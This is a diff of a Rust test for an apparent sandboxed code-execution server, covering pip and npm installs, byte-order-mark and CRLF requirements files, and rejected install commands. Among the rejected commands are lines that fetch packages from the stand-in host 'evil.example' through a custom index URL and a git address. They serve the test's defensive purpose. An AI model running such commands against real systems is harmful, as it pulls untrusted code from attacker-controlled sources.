@@ -154,7 +154,8 @@ async fn programs_install_by_pip_and_npm_and_use_what_they_installed() {
     let session = Session::open(&server, "p2", PYTHON).await;
     let (stdout, stderr) = session.cell("%pip install needs-tiny\nimport needs_tiny\nprint(needs_tiny.VALUE)").await;
     assert!(stdout.contains("Installed needs-tiny==1.0 tiny==1.0") && stdout.contains("\n1.0\n"), "{stdout}{stderr}");
-    let code = "echo tiny==1.0 > list.txt\npip install -r list.txt && tiny-say\nnpm install left && node -e \
+    let code = "printf '\\xef\\xbb\\xbftiny==1.0\\r\\n' > list.txt\n\
+                pip install -r list.txt && tiny-say\nnpm install left && node -e \
                 'console.log(require(\"/data/.packages/javascript/node_modules/left\"))'";
     let (stdout, stderr) = printed(&server, "p3", BASH, code).await;
     assert_eq!(stdout, "Installed tiny==1.0\ntiny says 1.0\nInstalled left@1.0.0\nleft\n", "{stderr}");
@@ -163,6 +164,7 @@ async fn programs_install_by_pip_and_npm_and_use_what_they_installed() {
         ("pip install no-such-package", "no-such-package"),
         ("pip install --index-url http://evil.example tiny", "--index-url is not supported"),
         ("pip install git+https://evil.example/x", "is an address or a path"),
+        ("printf '\\xff\\xfet\\0' > wide.txt; pip install -r wide.txt", "ERROR: 'utf-8' codec"),
         ("npm install no-such-package", "no-such-package"),
     ] {
         let (stdout, stderr) = printed(&server, "p4", BASH, &format!("{code} && echo installed")).await;
